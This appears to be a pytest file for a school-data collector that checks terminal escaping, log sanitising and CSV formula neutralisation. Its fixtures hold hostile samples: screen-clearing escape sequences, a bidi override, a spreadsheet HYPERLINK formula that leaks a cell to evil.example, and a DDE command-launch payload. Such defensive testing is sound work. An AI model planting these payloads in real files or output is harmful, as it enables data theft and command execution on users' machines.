"""Outside text on an operator's terminal and in a planner's spreadsheet: escaped, neutralised.

The adversary is a school (any school credential can publish) or whoever wrote the registry
file: escape sequences that clear the screen, retitle the window or hide text; bidi overrides
that make text read backwards; cells like `=HYPERLINK(...)` that a spreadsheet would run.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import sys
from pathlib import Path

import pytest

from edugap.collector.cli import main
from edugap.collector.ingest.consumer import Ingest
from edugap.collector.model import School
from edugap.collector.registry.schools import parse, to_csv
from edugap.collector.safetext import SafeFormatter, neutralise, printable, terminal, unneutralise
from edugap.collector.store import open_store
from edugap.protocol.messages import encode, topic_for
from edugap.protocol.mqtt import parse_broker_url
from tests.collector.mqtt_helpers import publish_raw, publisher, wait_until
from tests.collector.reports import bandwidth
from tests.realparts import Mosquitto

CLEAR_SCREEN = "\x1b[2J\x1b[H"
RETITLE = "\x1b]0;owned\x07"
CSI_C1 = "\x9b31m"  # a one-byte CSI, which some terminals obey in UTF-8 too
BIDI = "\u202eexe.txt"  # reads "txt.exe"
EVIL = f"{CLEAR_SCREEN}{RETITLE}{CSI_C1}\x00\x7f\u2028{BIDI}"
# what a terminal would obey: C0 (but the line breaks we print ourselves), DEL, C1, bidi
RAW_CONTROL = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]"
)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem")'


def test_printable_escapes_every_control_and_keeps_vietnamese() -> None:
    shown = printable(f"Trường {EVIL} 🙂")
    assert not RAW_CONTROL.search(shown) and "\n" not in shown
    assert shown.startswith("Trường \\x1b[2J") and shown.endswith("🙂")
    assert "\\u202eexe.txt" in shown and "\\x9b31m" in shown


def test_printable_json_stays_json_and_decodes_to_the_original() -> None:
    line = printable(json.dumps({"name": EVIL}, ensure_ascii=False), json=True)
    assert not RAW_CONTROL.search(line)
    assert json.loads(line) == {"name": EVIL}


def test_neutralise_round_trip() -> None:
    for text in (HYPERLINK, "+1", "-cmd", "@SUM(A1)", "\tx", "\rx", "plain", "'quoted", ""):
        assert unneutralise(neutralise(text)) == text
        assert not neutralise(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_log_lines_cannot_be_forged_or_leak_passwords() -> None:
    formatter = SafeFormatter("%(levelname)s %(message)s")
    record = logging.LogRecord(
        "edugap.collector.ingest.consumer", logging.WARNING, __file__, 1,
        "rejected %s from %s", (f"x\nINFO forged line{CLEAR_SCREEN}", "postgresql://u:Pw0rd@h/d"),
        None,
    )  # fmt: skip
    line = formatter.format(record)
    assert "\n" not in line and not RAW_CONTROL.search(line)
    assert "Pw0rd" not in line and "\\x0aINFO forged line" in line
    try:
        raise ValueError(f"bad {CLEAR_SCREEN}")
    except ValueError:
        record = logging.LogRecord("x", logging.ERROR, __file__, 1, "failed", (), sys.exc_info())
    text = formatter.format(record)
    assert "Traceback" in text and "\n" in text  # a traceback keeps its lines
    assert not RAW_CONTROL.search(text)


def test_rejects_from_a_school_reach_the_terminal_escaped(
    tmp_path: Path, broker: Mosquitto, capsys: pytest.CaptureFixture[str]
) -> None:
    db = str(tmp_path / "edugap.db")
    store = open_store(db)
    ingest = Ingest(store, parse_broker_url(broker.url), batch_seconds=0.05)
    ingest.start()
    topic = topic_for("SCH-1", "dev-1", "bandwidth")
    payloads = [
        f'{{"schema": "{EVIL}"'.encode(),  # not JSON: bad_json
        f'{{"schema": "edugap.bandwidth/1", "x": "{CLEAR_SCREEN}{BIDI}"}}'.encode(),  # invalid
        encode(bandwidth()).replace(b'"SCH-1"', json.dumps(EVIL).encode(), 1),  # invalid
    ]
    try:
        wait_until(ingest.ready, what="ingest subscribed")
        with publisher(broker.url) as pub:
            for payload in payloads:
                publish_raw(pub, topic, payload)
            # a bidi override in the topic itself (Mosquitto refuses C0 and C1 controls there)
            publish_raw(pub, f"edugap/v1/SCH{BIDI}/dev/bandwidth", encode(bandwidth()))
            sent = len(payloads) + 1
            wait_until(
                lambda: sum(n for k, n in ingest.stats.messages.items() if k != "stored") == sent,
                what=f"{sent} rejected, have {ingest.stats.messages}",
            )
        assert ingest.wait_idle(10)
    finally:
        ingest.stop()
        store.close()
    assert main(["rejects", "--db", db]) == 0
    out = capsys.readouterr().out
    assert out.count("payload:") == sent
    assert not RAW_CONTROL.search(out), "a raw control character reached the terminal"
    assert "\\x1b[2J" in out and "SCH\\u202eexe.txt/dev" in out
    assert main(["rejects", "--db", db, "--json"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == sent and not any(RAW_CONTROL.search(line) for line in lines)
    topics = {json.loads(line)["topic"] for line in lines}
    assert f"edugap/v1/SCH{BIDI}/dev/bandwidth" in topics  # JSON keeps the exact text


REGISTRY_HEAD = "school_id,name,province,commune,level,lat,lon,students\n"


def _registry_row(school_id: str, name: str) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(
        [school_id, name, "Hà Nội", "Phường Ba Đình", "primary", 21.03, 105.81, 300]
    )
    return out.getvalue()


def test_schools_list_neutralises_formulas_and_escapes_controls(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = str(tmp_path / "edugap.db")
    registry = tmp_path / "schools.csv"
    registry.write_text(
        REGISTRY_HEAD
        + _registry_row("HN-1", HYPERLINK)
        + _registry_row("-HN-2", f"Trường {EVIL}")
        + _registry_row("HN-3", "@SUM(1+1)*cmd|' /C calc'!A0")
        + _registry_row(f"BAD{CLEAR_SCREEN}", "x"),  # a bad id: its error line is printed
        encoding="utf-8",
    )
    assert main(["schools", "import", str(registry), "--db", db]) == 1
    err = capsys.readouterr().err
    assert "BAD\\x1b[2J" in err and not RAW_CONTROL.search(err)

    assert main(["schools", "list", "--db", db, "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert not RAW_CONTROL.search(out)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 3
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert {r["name"] for r in rows} >= {"'" + HYPERLINK, "'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert {r["school_id"] for r in rows} == {"HN-1", "'-HN-2", "HN-3"}

    assert main(["schools", "list", "--db", db]) == 0
    table = capsys.readouterr().out
    assert not RAW_CONTROL.search(table) and "Trường \\x1b[2J" in table

    assert main(["schools", "list", "--db", db, "--format", "json"]) == 0
    listed = capsys.readouterr().out
    assert not RAW_CONTROL.search(listed)
    assert f"Trường {EVIL}" in {s["name"] for s in json.loads(listed)}  # lossless


def test_registry_csv_neutralises_and_reads_back_what_it_wrote() -> None:
    schools = [
        School("-HN-1", HYPERLINK, "+p", "@c", "=level", 21.0, 105.8, 10, None, None),
        School("HN-2", "Trường Tiểu học", "Thành phố Hà Nội", "Phường Ba Đình", "primary",
               21.0, 105.8, 10, 3, 100.0),
    ]  # fmt: skip
    text = to_csv(schools)
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
    parsed = parse(text, allow_unknown_province=True)  # "+p" is no province of 2025
    assert [(s.school_id, s.name, s.level) for s in parsed.schools] == [
        ("-HN-1", HYPERLINK, "=level"),
        ("HN-2", "Trường Tiểu học", "primary"),
    ]


def test_terminal_hides_passwords_and_controls() -> None:
    shown = terminal(f"cannot open postgresql://u:Pw0rd@h/db{CLEAR_SCREEN}")
    assert "Pw0rd" not in shown and not RAW_CONTROL.search(shown)
